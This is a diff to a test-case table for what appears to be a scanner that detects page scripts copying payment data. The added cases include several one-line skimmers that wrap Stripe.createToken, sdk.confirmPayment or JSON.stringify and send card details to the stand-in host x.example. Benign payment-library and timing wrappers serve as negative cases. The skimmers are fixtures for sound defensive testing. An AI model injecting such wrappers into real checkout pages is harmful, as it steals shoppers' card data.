@@ -55,6 +55,22 @@ const cases: Record<string, [string, string[]]> = {
     `(function(s){JSON.stringify=function(v){var t=s.apply(JSON,arguments);if(v&&v.card)new EventSource('https://x.example/?'+btoa(t));return t}})(JSON.stringify)`,
     ['critical page-requests-copied'],
   ],
+  'a copy of what a payment library is given': [
+    `var t=Stripe.createToken;Stripe.createToken=function(c,f){new Image().src='https://x.example/?'+btoa(JSON.stringify(c));return t.call(this,c,f)}`,
+    ['critical page-requests-copied'],
+  ],
+  'a copy of all that a payment library is given': [
+    `const real=sdk.confirmPayment.bind(sdk);sdk.confirmPayment=async(...all)=>{await fetch('https://x.example/',{method:'POST',body:JSON.stringify(all)});return real(...all)}`,
+    ['high page-requests-copied'],
+  ],
+  'a payment library that makes such a function': [
+    `var ns=window.pay=window.pay||{};ns.createToken=function(c){return fetch('https://api.x.example/',{method:'POST',body:JSON.stringify(c)})}`,
+    [],
+  ],
+  'a clock around a function of a payment library': [
+    `var t=pay.tokenize;pay.tokenize=function(c,f){var s=Date.now();return t.call(pay,c,function(e,r){navigator.sendBeacon('https://apm.example/',String(Date.now()-s));f(e,r)})}`,
+    [],
+  ],
   'an agent that measures requests': [
     `var f=window.fetch;window.fetch=function(u,o){var t=Date.now();return f.apply(this,arguments).then(function(r){navigator.sendBeacon('https://apm.example/v1',JSON.stringify({url:String(u),method:o&&o.method,ms:Date.now()-t,status:r.status,size:o&&o.body?o.body.length:0}));return r})};var s=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(b){this.t=Date.now();return s.apply(this,arguments)}`,
     [],
